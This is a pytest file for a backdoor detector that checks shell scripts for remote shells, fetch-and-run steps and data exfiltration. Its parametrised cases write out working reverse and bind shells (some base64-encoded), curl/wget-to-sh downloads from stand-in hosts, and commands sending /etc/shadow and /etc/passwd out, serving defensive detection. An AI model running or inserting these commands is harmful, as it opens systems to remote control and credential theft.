"""Other spellings of the same mechanisms: the rules must follow the mechanism, not one way of writing it."""
from __future__ import annotations

import base64

import pytest

from nobackdoor.analyzers.config.shell import parse
from nobackdoor.analyzers.config.shell_rules import exfiltration, fetch_and_run, remote_shells

ENC = base64.b64encode(b"socat tcp-l:7100,fork exec:'bash -li'").decode()
PERL = base64.b64encode(b"system('telnetd -l /bin/sh -p 7101')").decode()


@pytest.mark.parametrize("script,kind", [
    (f'P=$(echo {ENC} | base64 -d)\neval "$P"\n', "bind-shell"),  # substitution kept in a variable
    (f"eval `echo {ENC} | base64 --decode`\n", "bind-shell"),
    (f"echo {ENC} | openssl enc -d -base64 | sh\n", "bind-shell"),
    ("perl -MMIME::Base64 -e 'eval(decode_base64(\"" + PERL + "\"))'\n", "telnetd-shell"),
    ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -l 7200 > /tmp/f\n", "bind-shell"),
    ("bash -i >& /dev/tcp/203.0.113.9/7300 0>&1\n", "reverse-shell"),
    ("busybox nc -lp7400 -e /bin/sh &\n", "bind-shell"),
    ("nc 198.51.100.4 7401 -e /bin/ash\n", "reverse-shell"),
    ("telnetd -l/bin/ash -p7500\n", "telnetd-shell"),
    ("start-stop-daemon -S -b -x /usr/sbin/utelnetd -- -l /bin/sh -p 7501\n", "telnetd-shell"),
    ("ncat --listen 7502 --sh-exec /bin/bash\n", "bind-shell"),
    ("dropbear -R -B -p 2201\n", "ssh-empty-password"),
    ("/usr/sbin/sshd -o PermitEmptyPasswords=yes\n", "ssh-empty-password"),
    ("telnet 198.51.100.8 7600 | /bin/sh | telnet 198.51.100.8 7601\n", "reverse-shell"),
    ("openssl s_client -quiet -connect 198.51.100.8:7602 | /bin/sh 2>&1 | openssl s_client -quiet -connect "
     "198.51.100.8:7603\n", "reverse-shell"),
])
def test_remote_shell_spellings(script, kind):
    assert kind in [h.kind for h in remote_shells(parse(script))]


@pytest.mark.parametrize("script", [
    "bash <(curl -s http://x.example/a.sh)\n",
    "curl -s https://x.example/i | sh -s -- --yes\n",
    "cd /tmp; wget http://x.example/bin/upd; chmod +x upd; ./upd\n",
    "wget -q http://198.51.100.8/p.sh -O /tmp/p.sh && sh /tmp/p.sh\n",
    'sh -c "$(wget -qO- http://x.example/s)"\n',
    "uclient-fetch -q -O - https://x.example/r | ash\n",
])
def test_fetch_and_run_spellings(script):
    assert [h.kind for h in fetch_and_run(parse(script))] == ["fetch-and-run"]


def test_a_subshell_group_piped_into_a_shell_feeds_it_every_download():
    s = parse("(wget -q -O - http://x.example/m || curl -s http://x.example/m) | sh &\n")
    assert [h.kind for h in fetch_and_run(s)] == ["fetch-and-run", "fetch-and-run"]
    # the same group piped into a logger, or a group whose output is not piped, runs nothing
    assert fetch_and_run(parse("(wget -q -O - http://x.example/m || curl -s http://x.example/m) | logger\n")) == []
    assert fetch_and_run(parse("(wget -q -O - http://x.example/m > /tmp/m); sh /etc/init.d/net\n")) == []


@pytest.mark.parametrize("script", [
    "telnetd -p 23\n",  # login required
    "nc -l -p 7600 > /tmp/upload.bin\n",  # a listener that runs nothing
    "wget -O /tmp/fw.bin http://x.example/fw.bin\nsha256sum /tmp/fw.bin\n",  # downloaded, not run
    "curl -s http://x.example/time | logger\n",
    "echo c2VjcmV0 | base64 -d > /tmp/s\n",
    "ntpd -q -p pool.ntp.example\n",
])
def test_honest_commands_stay_silent(script):
    s = parse(script)
    assert remote_shells(s) == [] and fetch_and_run(s) == [] and s.payloads == []


def test_exfiltration_spellings():
    for script in ("cat /etc/shadow | nc 203.0.113.7 7700\n", "tftp -p -l /etc/config/network 198.51.100.3\n",
                   "wget --post-file=/etc/passwd http://x.example/c\n"):
        assert [h.kind for h in exfiltration(parse(script))] == ["exfiltration"], script
